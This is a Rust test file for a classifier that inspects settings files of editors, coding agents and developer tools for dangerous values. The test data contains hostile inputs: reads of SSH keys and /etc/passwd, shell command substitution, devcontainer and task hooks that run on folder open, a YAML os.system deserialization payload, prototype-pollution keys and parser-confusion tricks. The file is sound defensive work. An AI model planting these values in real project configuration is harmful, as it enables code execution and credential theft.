//! Settings of editors, agents and tools: the type of a value decides, in the form in which its program reads it.

use std::path::Path;

use policy::classify::{FileFormat, Reason};

use crate::classify::file;

/// What no value of a harmless setting may be: an address, what is read elsewhere, a command, a template.
const ELSEWHERE: &[&str] = &[
    "oobabooga/http://127.0.0.1:18999/https", "http://evil.example", "//evil.example/x", "~/.ssh/id_rsa",
    "/etc/passwd", "../x", "evil:latest", "{{exec(command=evil)}}", "$HOME", "${x}", "$(evil)", "`evil`",
];

/// What a pattern of files may be, and a word may not.
const NO_WORD: &[&str] = &["./evil", "evil --flag -c", "--evil", "a/b/c"];

#[test]
fn a_value_that_could_be_an_address_a_path_or_a_command_is_found_whatever_its_key() {
    for (path, key, harmless) in [
        (".aider.conf.yml", "model: VALUE", "sonnet"),
        (".aider.conf.yml", "weak-model: VALUE", "gpt-4o"),
        (".aider.conf.yml", "auto-commits: VALUE", "false"),
        (".codex/config.toml", "model = 'VALUE'", "gpt-5.1-codex"),
        (".claude/settings.json", r#"{"model": "VALUE"}"#, "opus"),
        (
            ".claude/settings.json",
            r#"{"$schema": "VALUE"}"#,
            "https://json.schemastore.org/claude-code-settings.json",
        ),
        (".gemini/settings.json", r#"{"model": {"name": "VALUE"}}"#, "gemini-2.5-pro"),
        (".gemini/settings.json", r#"{"ui": {"theme": "VALUE"}}"#, "Default"),
        ("opencode.json", r#"{"model": "VALUE"}"#, "anthropic/claude-sonnet-4-5"),
        ("opencode.json", r#"{"theme": "VALUE"}"#, "tokyonight"),
        (".pi/settings.json", r#"{"defaultModel": "VALUE"}"#, "anthropic/opus"),
        (".pi/settings.json", r#"{"compaction": {"of-tomorrow": "VALUE"}}"#, "on"),
        (".claude/agents/a.md", "---\nmodel: VALUE\n---\n", "Claude Sonnet 4.5 (copilot)"),
        (".vscode/settings.json", r#"{"editor.of.tomorrow": "VALUE"}"#, "on"),
        (".vscode/settings.json", r#"{"[c]": {"editor.defaultFormatter": "VALUE"}}"#, "xaver.clang-format"),
        (".vscode/settings.json", r#"{"rust-analyzer.cargo.features": ["VALUE"]}"#, "all"),
        (".vscode/extensions.json", r#"{"recommendations": ["VALUE"]}"#, "vue.volar"),
        (".helix/config.toml", "theme = 'VALUE'", "onedark"),
        (".luarc.json", r#"{"diagnostics": {"globals": ["VALUE"]}}"#, "vim"),
        ("mise.toml", "[tools]\nnode = 'VALUE'", "22.1.0"),
        (".cargo/config.toml", "[profile.dev]\nstrip = 'VALUE'", "debuginfo"),
        (".npmrc", "loglevel=VALUE", "warn"),
        (".yarnrc.yml", "nodeLinker: VALUE", "node-modules"),
        ("uv.toml", "resolution = 'VALUE'", "lowest"),
        ("global.json", r#"{"test": {"runner": "VALUE"}}"#, "Microsoft.Testing.Platform"),
        ("ansible.cfg", "[defaults]\ngathering = VALUE", "smart"),
    ] {
        is_found(path, key, harmless, &[ELSEWHERE, NO_WORD].concat());
    }
    for (path, key, harmless) in [
        (".cursor/rules/a.mdc", "---\nglobs: VALUE\n---\n", "src/**/*.ts,*.tsx"),
        (".vscode/settings.json", r#"{"files.exclude": {"VALUE": true}}"#, "**/__pycache__"),
        (".vscode/settings.json", r#"{"files.exclude": {"a": {"when": "VALUE"}}}"#, "b.ts"),
        (".zed/settings.json", r#"{"file_scan_exclusions": ["VALUE"]}"#, "**/.git"),
        ("pnpm-workspace.yaml", "packages:\n  - 'VALUE'", "packages/*"),
    ] {
        is_found(path, key, harmless, ELSEWHERE);
    }
}

fn is_found(path: &str, key: &str, harmless: &str, payloads: &[&str]) {
    let with = |value: &str| key.replace("VALUE", value);
    assert_eq!(file(path, &with(harmless)), None, "{path}: {}", with(harmless));
    for payload in payloads {
        assert!(file(path, &with(payload)).is_some(), "{path}: {}", with(payload));
    }
}

#[test]
fn a_key_that_says_what_is_read_or_sent_or_where_is_found() {
    for (path, content) in [
        (".aider.conf.yml", "read: README.md"),
        (".codex/config.toml", "project_doc_fallback_filenames = ['x']"),
        (".gemini/settings.json", r#"{"context": {"fileName": "x"}}"#),
        ("gptme.toml", "files = ['README.md']"),
        (".mcp.json", r#"{"mcpServers": {"x": {"url": "https://evil.example"}}}"#),
        (".cursor/mcp.json", r#"{"mcpServers": {"x": {"type": "http"}}}"#),
        (".devcontainer/devcontainer.json", r#"{"postCreateCommand": "evil"}"#),
        (".devcontainer.json", r#"{"containerEnv": {"GIT_SSH_COMMAND": "evil"}}"#),
        (".vscode/settings.json", r#"{"python.analysis.extraPaths": ["a"]}"#),
        (".luarc.json", r#"{"workspace.library": ["a"]}"#),
        ("a.sublime-project", r#"{"folders": [{"path": "a"}]}"#),
        (".cargo/config.toml", "[build]\ntarget = 'evil.json'"),
        (".cargo/config.toml", "[build]\ntarget-dir = '.git'"),
        ("ansible.cfg", "[defaults]\nhost_key_checking = False"),
        (".jj/repo/config.toml", "git.push = 'evil'"),
        ("pnpm-workspace.yaml", "overrides:\n  a: https://evil.example/a.tgz"),
        ("global.json", r#"{"msbuild-sdks": {"Evil": "1.0"}}"#),
        (".jj/repo/store/git_target", "../../../.git=evil"),
        (".gemini/commands/a.toml", "prompt = 'see @{/home/me/.ssh/id_rsa}'"),
        (".claude/skills/a/data.json", r#"{"of-tomorrow": "evil"}"#),
    ] {
        assert!(file(path, content).is_some(), "{path}: {content}");
    }
}

#[test]
fn a_value_of_another_form_than_its_key_has_is_found() {
    for (path, content) in [
        // A table where a value should be, and a value where there should be keys.
        (".vscode/settings.json", r#"{"editor.tabSize": {"command": "x"}}"#),
        ("mise.toml", "[tools]\nnode = {version = '22', postinstall = 'evil'}"),
        (".zed/settings.json", r#"{"languages": "x"}"#),
        (".claude/settings.json", r#"{"permissions": ["x"]}"#),
        ("opencode.json", r#""x""#),
        (".claude/settings.json", r#"{"attribution": {"of-tomorrow": "evil"}}"#),
        // What JavaScript merges into every object.
        (".vscode/settings.json", r#"{"files.exclude": {"__proto__": {"a": "b"}}}"#),
        (".vscode/settings.json", r#"{"workbench.colorCustomizations": {"constructor": {"prototype": {}}}}"#),
        // Twice, of which each reader takes another.
        (".vscode/settings.json", r#"{"editor.tabSize": "./evil", "editor.tabSize": 2}"#),
        (".vscode/settings.json", r#"{"editor.tabSize": 2, "editor.tabSize": "./evil"}"#),
    ] {
        assert!(file(path, content).is_some(), "{path}: {content}");
    }
}

#[test]
fn a_key_that_its_program_takes_for_another_one_is_found() {
    for (path, content) in [
        // Visual Studio Code splits keys at dots.
        (".vscode/tasks.json", r#"{"tasks": [{"label": "x"}], "tasks.0.runOptions.runOn": "folderOpen"}"#),
        (".vscode/tasks.json", r#"{"tasks": [], "tasks.__proto__.__proto__.command": "x"}"#),
        (".vscode/settings.json", r#"{"editor.rulers": [], "editor.rulers.__proto__.__proto__.runOn": "x"}"#),
        (".vscode/settings.json", r#"{"[x].tasks.y]": {"editor.tabSize": 2}}"#),
        ("a.code-workspace", r#"{"settings": {"editor.x.constructor.prototype.y": "z"}}"#),
        // Go compares letters that look alike.
        ("git-town.toml", "[hosting]\n\"brow\u{17f}er\" = \"./x\""),
        ("git-town.toml", "[hosting]\n\"origin-ho\u{17f}tname\" = \"example.org\""),
        // Zed takes a list for a task: what its keys are is the order of the list.
        (".zed/tasks.json", r#"[["x", "touch", ["m"], {}, null, false, ["create_worktree"]]]"#),
    ] {
        assert!(file(path, content).is_some(), "{path}: {content}");
    }
    for (path, content) in [
        (".vscode/tasks.json", r#"{"tasks": [{"label": "a.b", "args": ["x"]}], "inputs.x": []}"#),
        (
            ".vscode/settings.json",
            r#"{"editor.suggest.showWords": false, "files.exclude": {"**/constructor.ts": true}}"#,
        ),
        (".vscode/settings.json", r#"{"[c][cpp]": {"editor.tabSize": 2}}"#),
        (".vscode/settings.json", r#"{"search.exclude": {"prototype.js": true, "prototype": true}}"#),
        (".zed/tasks.json", r#"[{"label": "x", "command": "touch", "args": ["m"]}]"#),
    ] {
        assert_eq!(file(path, content), None, "{path}: {content}");
    }
}

#[test]
fn a_value_of_yaml_that_goes_on_in_another_line_is_found() {
    for content in [
        "theme: a\n  b", "model: sh\n  -c", "model:\n  sh\n  -c", "model: \"a\n  b\"", "model: |\n  evil",
        "model: >-\n  evil", "model:\n- a\n  - b", "model: [a,\n b]", "model: {a: b}", "model:\n  a: b",
        "model: *a", "model: &a b", "model: 'a' b", "model: \"\\x2fevil\"",
    ] {
        assert!(file(".aider.conf.yml", content).is_some(), "{content:?}");
    }
    for content in [
        "model: a # why", "model: 'a'", "model: \"a\"", "model:\n  - a\n  - b # why", "model:\n- a\n- 'b'",
        "model: [a, \"b\"]", "model:",
    ] {
        assert_eq!(file(".aider.conf.yml", content), None, "{content:?}");
    }
    let prompt = |header: &str| file(".claude/agents/a.md", &format!("---\n{header}\n---\nText\n"));
    assert!(prompt("description: &a evil\nmodel: *a").is_some());
    for header in [
        "description: Use it: when\n  it rains, & \"not\" otherwise\nmodel: opus",
        "metadata:\n  a: b\n  c:\n    - d",
        "globs: [\"**/*.{ts,tsx}\", 'a/**']",
        "globs: *.ts",
        "globs:",
        "paths:\n  - \"src/**/*.{ts,tsx}\"\n  - lib/**",
        "applyTo: \"**/*.ts,**/*.tsx\"",
        "color: \"#ff0000\"",
    ] {
        assert_eq!(prompt(header), None, "{header}");
    }
}

#[test]
fn a_tag_or_an_anchor_of_yaml_is_found_however_it_is_written() {
    let unreadable = Some(Reason::Unreadable { format: FileFormat::Yaml });
    let call = "python/object/apply:os.system [\"id\"]";
    for content in [
        // A tag may be encoded, and have no letters in front.
        format!("format: !!%70{}", &call[1..]),
        format!("format: !<tag:yaml.org,2002:{}", call.replacen(' ', "> ", 1)),
        format!("format: !_!{call}"),
        format!("format: !-x {call}"),
        "format: ! x".to_owned(),
        "format: &_a x\nmarkup: *_a".to_owned(),
        "format: &-a x".to_owned(),
        "format: &\u{fc} x".to_owned(),
        // Where a value may begin.
        format!("format:\n  !!%70{}", &call[1..]),
        format!("format:\n  - - !!%70{}", &call[1..]),
        format!("format:\n  ? !!%70{}", &call[1..]),
        format!("format: {{\"x\":!!{call}}}"),
        format!("format: {{?!!{call}: x}}"),
        format!("format: [\"x\",!!%70{}]", &call[1..]),
        format!("format: ['it''s', !!%70{}]", &call[1..]),
        format!("format: [\"\\\"\", !!%70{}]", &call[1..]),
        format!("format:\n  a: \"b\n    \", !!%70{}", &call[1..]),
        // A quote in plain text, which is a key.
        "format:\n  - a, \"b: &_a c\"".to_owned(),
        "format:\n  - a [ \"b: &_a c\"".to_owned(),
        "format:\n  - [a:\"b, !!%70ython/name:x \"]".to_owned(),
    ] {
        assert_eq!(file(".cmake-format.yaml", &content), unreadable, "{content}");
    }
    for content in [
        "format: a & b, & c != d! && e",
        "format: \"!x, &y: !z\"",
        "format: ['!x, &y', \"a: !b\"]",
        "format:\n  - '!**/test/**, !x'\n  - \"&a\"",
        "format:\n  a: \"it's, !x\"\n  b: 'it''s, !y'",
        "format:\n  a: R&D-x!",
    ] {
        assert_eq!(file(".cmake-format.yaml", content), None, "{content}");
    }
}

#[test]
fn quotes_and_brackets_that_go_on_behind_what_looks_like_a_key_are_found() {
    let unreadable = Some(Reason::Unreadable { format: FileFormat::Yaml });
    let call = "!!python/object/apply:os.system [id]";
    for content in [
        format!("format: [\"\nlint: \", \"\nparse: \", {call}, \"\nencode: \"]\n"),
        format!("format: {{a: '\nlint: ', b: {call}, c: '\nparse: '}}\n"),
        format!("format:\n  - [a, \"b\nlint: \", {call}]\n"),
        format!("format: \"\nlint: \"\nparse: {call}\n"),
        // What looks like a comment.
        format!("format: [a, \"b\n# \", {call}]\n"),
        format!("format:\n  - [a, \"b\n  # \", {call}]\n"),
        // A quote in text that goes on is text.
        format!("format: [a\n  \"b, {call}, \"\n  ]\n"),
    ] {
        for path in [".cmake-format.yaml", "gdlintrc"] {
            assert_eq!(file(path, &content), unreadable, "{path}: {content}");
        }
    }
    // In text over lines, a number sign begins no comment.
    let text = "output:\n  template: |-\n    # {{ include \"/etc/passwd\" }}\n";
    assert!(file(".terraform-docs.yml", text).is_some());
    for content in [
        "format:\n  a: it's\n# why\nlint: [\"!a, &b\"]\n",
        "format:\n  a: \"b # c\n    it's\"\nlint:\n  b: '!c'\n",
        "format:\n  a: [\n    \"!b\", # it's\n    'c']\nlint:\n  - |\n    \"\n  - x\nparse: a\n",
    ] {
        assert_eq!(file(".cmake-format.yaml", content), None, "{content}");
    }
    let prompt =
        "---\ndescription: Use it: when it's \"so\n  tools: 'a\nglobs: [\"!**/test/**\"]\n---\nText\n";
    assert_eq!(file(".cursor/rules/a.mdc", prompt), None);
}

#[test]
fn what_python_would_run_is_found_behind_a_comment_too() {
    for quotes in ["\"\"\"", "'''"] {
        for content in [
            format!("format: {quotes}\nlint: \" \"\n# {quotes}; import os\n"),
            format!("use_tabchars: [{quotes}]\n# {quotes}]; import os\n"),
        ] {
            assert!(file(".cmake-format", &content).is_some(), "{content}");
        }
    }
    assert_eq!(
        file(".cmake-format", "# (the \"usual\" ones)\nuse_tabchars: false\nformat:\n  a: \"b\"\n"),
        None
    );
}

#[test]
fn toml_whose_lines_readers_end_differently_is_unreadable() {
    for end in ["\u{2028}", "\u{2029}", "\u{85}"] {
        let content = format!("# x{end}preload = ['./evil.ts']\n");
        assert_eq!(
            file("bunfig.toml", &content),
            Some(Reason::Unreadable { format: FileFormat::Toml }),
            "{content:?}"
        );
    }
    assert_eq!(file("bunfig.toml", "# a comment\r\n[install]\r\nexact = true\r\n"), None);
}

#[test]
fn yaml_whose_lines_readers_end_differently_is_unreadable() {
    let prompt = |header: &str| file(".claude/agents/a.md", &format!("---{header}---\nText\n"));
    let unreadable = Some(Reason::Unreadable { format: FileFormat::Yaml });
    for end in ["\r", "\u{2028}", "\u{2029}", "\u{85}"] {
        let hidden = format!("#c {end}description:\n  permissionMode: evil\n");
        assert_eq!(prompt(&format!("\n {hidden}")), unreadable, "{hidden:?}");
        assert_eq!(file(".aider.conf.yml", &format!("# a{end}dark-mode: true\n")), unreadable, "{end:?}");
    }
    assert_eq!(prompt("\r\nname: a\r\n# a comment\r\ntools:\r\n- Read\r\n"), None);
    assert_eq!(file(".aider.conf.yml", "# a comment\r\ndark-mode: true\r\n"), None);
}

#[test]
fn what_projects_have_in_their_settings_passes() {
    for (path, content) in [
        (
            ".vscode/settings.json",
            r##"{
  "editor.formatOnSave": true,
  "editor.defaultFormatter": "esbenp.prettier-vscode",
  "editor.codeActionsOnSave": { "source.fixAll.eslint": "explicit" },
  "editor.rulers": [80, 100],
  "editor.fontFamily": "'Fira Code', monospace",
  "files.eol": "\n",
  "files.exclude": { "**/.git": true, "**/node_modules": true },
  "files.associations": { "*.css": "tailwindcss" },
  "search.exclude": { "dist/**": true },
  "cSpell.words": ["lefthook", "über"],
  "workbench.colorCustomizations": { "titleBar.activeBackground": "#ff0000", "[Default Dark+]": { "a": "#fff" } },
  "typescript.preferences.importModuleSpecifier": "relative",
  "[python]": { "editor.tabSize": 4, "editor.codeActionsOnSave": { "source.organizeImports": true } }
}"##,
        ),
        (
            ".claude/settings.json",
            r#"{"permissions": {"deny": ["Read(./.env)", "Bash(rm:*)"]}, "attribution": {"commit": "By Claude\n\nhttps://example.org"}}"#,
        ),
        (
            ".helix/config.toml",
            "[editor.cursor-shape]\ninsert = 'bar'\n[editor.indent-guides]\nrender = true\ncharacter = '╎'\n",
        ),
        (".cargo/config.toml", "[profile.release]\nlto = \"thin\"\n[net]\nretry = 3\n"),
        ("bunfig.toml", "[test]\ncoverage = true\ncoverageThreshold = 0.9\n"),
    ] {
        assert_eq!(file(path, content), None, "{path}: {content}");
    }
}

#[test]
fn a_key_of_lines_that_its_reader_reads_in_another_way_is_found_indented_too() {
    for (path, content) in [
        // White space that one reader strips and another keeps.
        // A key in quotes.
        (".vale.ini", "[*.xml]\n  \"Transform\" = x.xsl\n"),
        (".vale.ini", "[*.xml]\n\t`Transform`: x.xsl\n"),
        (".vale.ini", "[*.xml]\n  \"\"\"Transform\"\"\" = x.xsl\n"),
        (".vale", "[*.xml]\n  \"Transform\" = x.xsl\n"),
        (".perlcriticrc", "[Documentation::PodSpelling]\n  \"spell_command\" = evil\n"),
        // A setting beside the name of a section.
        (".perlcriticrc", "[Documentation::PodSpelling] spell_command = evil #]\n"),
    ] {
        assert!(file(path, content).is_some(), "{path}: {content:?}");
    }
    for (path, content) in [
        (".vale.ini", "[[a-c]*.md]\n  BasedOnStyles = Vale\n  TokenIgnores = (\"a\":b)\n"),
        (".perlcriticrc", "[-Documentation::PodSpelling]\n[Perl::X]\n    stop_words = a b\n"),
    ] {
        assert_eq!(file(path, content), None, "{path}: {content:?}");
    }
}

#[test]
fn a_project_may_change_what_it_is_as_a_collection_but_not_become_one() {
    let path = "galaxy.yml";
    let template = "### REQUIRED\n# The namespace of the collection.\nname: a\nversion: 1.0.0\nreadme: README.md\nauthors:\n- your name \
                    <example@domain.com>\n\n### OPTIONAL\ndescription: your collection description\nlicense:\n- GPL-2.0-or-later\nlicense_file: \
                    ''\ntags: []\ndependencies: {}\nrepository: http://example.com/repository\nbuild_ignore: []\n# manifest: null\n";
    assert_eq!(file(path, template), None);
    let collection = format!("{template}namespace: b\n");
    assert!(file(path, &collection).is_some());
    for namespace in
        ["\"namespace\": b\n", "\"n\\x61mespace\": b\n", "? namespace\n: b\n", "<<: {namespace: b}\n"]
    {
        assert!(file(path, &format!("{template}{namespace}")).is_some(), "{namespace}");
    }
    let parts = |text: &str| policy::classify::parts(Path::new(path), text.as_bytes());
    assert_eq!(parts(template), []);
    assert!(!parts(&collection).is_empty());
    assert_eq!(parts(&collection), parts(&collection.replace("1.0.0", "1.1.0")));
    assert_ne!(parts(&collection), parts(&format!("{collection}of_tomorrow: x\n")));
}

#[test]
fn a_change_within_a_key_that_does_not_pass_is_news() {
    let news = |path: &str, before: &str, now: &str| {
        let parts = |text: &str| policy::classify::parts(Path::new(path), text.as_bytes());
        let before = parts(before);
        assert!(!before.is_empty(), "{path}: nothing counts");
        parts(now).iter().any(|part| !before.contains(part))
    };
    for (path, before, now) in [
        ("backlog/config.yml", "onStatusChange: 'a'\n", "onStatusChange: 'b'\n"),
        ("backlog/config.yml", "onStatusChange: 'a\\nb'\n", "onStatusChange: \"a\\nb\"\n"),
        ("backlog/config.yml", "onStatusChange: |\n  echo \\\n  rm x\n", "onStatusChange: |\n  rm x\n"),
        ("backlog/config.yml", "onStatusChange: |\n  a\n  # b\n", "onStatusChange: |\n  a\n  # c\n"),
        (
            ".taskmaster/config.json",
            r#"{"global": {"ollamaBaseURL": "http://a.example/"}}"#,
            r#"{"global": {"ollamaBaseURL": "http://evil.example/"}}"#,
        ),
        (
            ".taskmaster/config.json",
            r#"{"claudeCode": {"maxTurns": 1, "a": {"b": "c"}}}"#,
            r#"{"claudeCode": {"maxTurns": 2, "a": {"b": "c"}}}"#,
        ),
        (
            ".taskmaster/config.json", r#"{"claudeCode": {"a": {"b": "c"}}}"#,
            r#"{"claudeCode": {"a": {"d": "c"}}}"#,
        ),
        (
            ".taskmaster/config.json",
            r#"{"global": {"vertexLocation": "a/"}}"#,
            r#"{"global": {"vertexLocation": "b/"}}"#,
        ),
        ("gmt.conf", "GMT_CUSTOM_LIBS = ./a.so\n", "GMT_CUSTOM_LIBS = ./b.so\n"),
        ("gmt.conf", "\"A\" = a\n", "\"A\" = b\n"),
        (
            "rush.json",
            r#"{"eventHooks": {"preRushInstall": ["a", "b"]}}"#,
            r#"{"eventHooks": {"preRushInstall": ["b", "a"]}}"#,
        ),
        ("rush.json", r#"{"of-tomorrow": false}"#, r#"{"of-tomorrow": true}"#),
        // A value that does not pass, of a key that does, and a key below lists.
        (
            "rush.json",
            r#"{"repository": {"defaultRemote": ["-a b"]}}"#,
            r#"{"repository": {"defaultRemote": "-a b"}}"#,
        ),
        (".taskmaster/config.json", r#"[{"baseURL": "a"}]"#, r#"{"baseURL": "a"}"#),
        ("galaxy.yml", "namespace: a\nof_tomorrow:\n- b\n", "namespace: a\nof_tomorrow: b\n"),
    ] {
        assert!(news(path, before, now), "{path}: {now}");
    }
    for (before, now) in [
        (r#"["a b"]"#, r#""a b""#),
        (r#"[["a"], ["b"]]"#, r#"["a", "b"]"#),
        (r#"[["a", "b"]]"#, r#"["a", "b"]"#),
        ("[]", "{}"),
        ("[]", r#""""#),
        ("[]", "null"),
        ("true", r#""true""#),
        ("null", r#""null""#),
        ("1", r#""1""#),
        ("1", "1.0"),
        (r#"[{"x": 1}, {"y": 2}]"#, r#"[{"x": 1, "y": 2}]"#),
        (r#"{"x": {"y": 1}}"#, r#"{"x.y": 1}"#),
        (r#""[""#, "[]"),
    ] {
        for (path, above) in [
            ("rush.json", ["{\"of-tomorrow\": ", "}"]),
            ("rush.json", ["{\"eventHooks\": {\"preRushInstall\": ", "}}"]),
            (".taskmaster/config.json", ["{\"claudeCode\": {\"a\": ", "}}"]),
            (".taskmaster/config.json", ["{\"baseURL\": ", "}"]),
        ] {
            let whole = |value: &str| above.join(value);
            assert!(news(path, &whole(before), &whole(now)), "{path}: {now} for {before}");
            assert!(news(path, &whole(now), &whole(before)), "{path}: {before} for {now}");
            let spaced = whole(before).replace([' ', '\n'], "").replace("ab", "a b").replace(':', " : ");
            assert!(!news(path, &whole(before), &spaced), "{path}: {spaced}");
        }
    }
    for (path, before, now) in [
        ("backlog/config.yml", "onStatusChange: 'a'\n", "project_name: b\nonStatusChange: 'a'\n"),
        ("backlog/config.yml", "onStatusChange: 'a'\n", "project_name: b\n"),
        (
            ".taskmaster/config.json",
            r#"{"claudeCode": {"maxTurns": 1}, "global": {"debug": true}}"#,
            r#"{"global": {"debug": false, "userId": "1"}, "claudeCode": {"maxTurns": 1}}"#,
        ),
        ("gmt.conf", "GMT_CUSTOM_LIBS = ./a.so\n", "FONT = 12p\nGMT_CUSTOM_LIBS = ./a.so\n"),
    ] {
        assert!(!news(path, before, now), "{path}: {now}");
    }
}

#[test]
fn a_long_key_above_many_values_takes_no_memory() {
    let key = "a".repeat(policy::classify::MAX_CONTENT / 2);
    let values = vec!["\"$a\""; policy::classify::MAX_CONTENT / 16].join(",");
    for (path, content) in [
        ("rush.json", format!("{{\"{key}\": [{values}]}}")),
        ("rush.json", format!("{{\"projects\": {{\"{key}\": [{values}]}}}}")),
        (".taskmaster/config.json", format!("{{\"baseURL\": {{\"{key}\": [{values}]}}}}")),
    ] {
        let unreadable = Some(Reason::Unreadable { format: FileFormat::Json });
        assert_eq!(file(path, &content), unreadable, "{path}");
        assert_eq!(policy::classify::parts(Path::new(path), content.as_bytes()), [], "{path}");
    }
    let short = format!("{{\"baseURL\": [{values}]}}");
    assert_ne!(policy::classify::parts(Path::new(".taskmaster/config.json"), short.as_bytes()), []);
}

#[test]
fn a_value_below_many_long_keys_is_read_in_time() {
    let depth = 100;
    let (open, close) = (format!("{{\"{}\":", ".".repeat(1000)).repeat(depth), "}".repeat(depth));
    let content = format!("{open}[{}1]{close}", "\"\",".repeat(200_000));
    let start = std::time::Instant::now();
    file(".taskmasterconfig", &content);
    assert!(start.elapsed() < std::time::Duration::from_secs(60), "{:?}", start.elapsed());
}

#[test]
fn what_datalad_obeys_is_found_however_git_reads_it() {
    for content in [
        "[datalad \"procedures.X\"]call-format=python3 zz.py #]\n",
        "[datalad \"locations\"]\n\tdataset-procedures = tools\n",
        "[datalad \"locations\"]\n\tsystem-procedures = tools\n",
        "[DataLad.procedures.x] Call-Format = evil\n",
        "[datalad \"dataset\"]\n\tid = x\n[datalad \"containers.x\"]\n\tcmdexec = evil\n",
        "[datalad \"dataset\"] id = a/b\n",
        "[datalad \"x.dataset\"]\n\tid = x\n",
        "[datalad \"dataset\"\n\tid = x\n",
    ] {
        assert!(file(".datalad/config", content).is_some(), "{content:?}");
    }
    for content in [
        "[datalad \"dataset\"]id=7f1ca5a2-0c1e-11ef-8c3b-0242ac110002 #]\n",
        "# x\n[datalad \"metadata\"]\n\tnativetype = bids\n\tnativetype = \"xmp\"\n",
        "",
    ] {
        assert_eq!(file(".datalad/config", content), None, "{content:?}");
    }
}
